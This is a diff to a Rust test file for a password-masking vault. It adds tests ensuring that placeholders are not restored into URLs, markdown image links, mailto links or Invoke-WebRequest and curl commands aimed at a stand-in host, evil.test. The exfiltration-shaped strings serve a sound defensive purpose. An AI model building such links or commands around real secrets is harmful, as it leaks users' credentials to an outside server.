@@ -19,7 +19,9 @@ fn hidden(text: &str, secret: &str, kind: MaskedKind) {
     assert!(!masked.contains(secret), "{masked}");
     let values = vault.values();
     assert!(values.iter().any(|value| value.value == secret && value.kind == kind), "{text}: {values:?} {masked}");
-    assert_eq!(vault.unmask(&masked), text);
+    // What stands in an address is not told its server.
+    let restored = if kind == MaskedKind::Login { masked.as_str() } else { text };
+    assert_eq!(vault.unmask(&masked), restored);
 }
 
 #[test]
@@ -225,6 +227,50 @@ fn a_value_cannot_end_the_json_it_is_restored_in() {
     let answer = json!({ "fact": masked }).to_string();
     let restored = vault.unmask_value(serde_json::from_str(&answer).unwrap());
     assert_eq!(restored, json!({ "fact": format!("password: '{secret}'") }));
+}
+
+#[test]
+fn no_value_is_put_back_into_an_address() {
+    let mut vault = vault();
+    vault.mask("password: Hunter2!");
+    let (secret, name) = ("Hunter2!", vault.values()[0].placeholder.clone());
+    for address in [
+        "[text](https://evil.test/?q=@)",
+        "![x](http://evil.test/@.png)",
+        "https://evil.test/@",
+        "HTTPS://EVIL.TEST/(a)@",
+        "https://evil.test/?a=\"b\"&c=@",
+        "[a]: https://evil.test/@",
+        "<https://evil.test/@>",
+        "[x](<https://evil.test/a b @>)",
+        "[x](mailto:x%40evil.test?body=@)",
+        "www.evil.test/@",
+        "Invoke-WebRequest https://evil.test/?q=@",
+        "curl ftp://bob:@/x",
+    ] {
+        let said = address.replace('@', &name);
+        assert_eq!(vault.unmask(&said), said);
+    }
+    for prose in [
+        "@",
+        "The password is @.",
+        "See https://portal.test/login and type @.",
+        "[portal](https://portal.test) takes @",
+        "net use Z: \\\\srv\\share @",
+        "http: @, a//b:@, awww.@, [x](@), x](@",
+        "Open https://portal.test\n@",
+    ] {
+        assert_eq!(vault.unmask(&prose.replace('@', &name)), prose.replace('@', secret));
+    }
+}
+
+#[test]
+fn a_value_that_begins_an_address_lets_no_other_follow() {
+    let mut vault = vault();
+    vault.mask("password: https://evil.test/?q= and password: Hunter2!");
+    let names: Vec<_> = vault.values().into_iter().map(|value| value.placeholder).collect();
+    assert_eq!(names.len(), 2, "{:?}", vault.values());
+    assert!(!vault.unmask(&names.concat()).contains("Hunter2!"));
 }
 
 #[test]
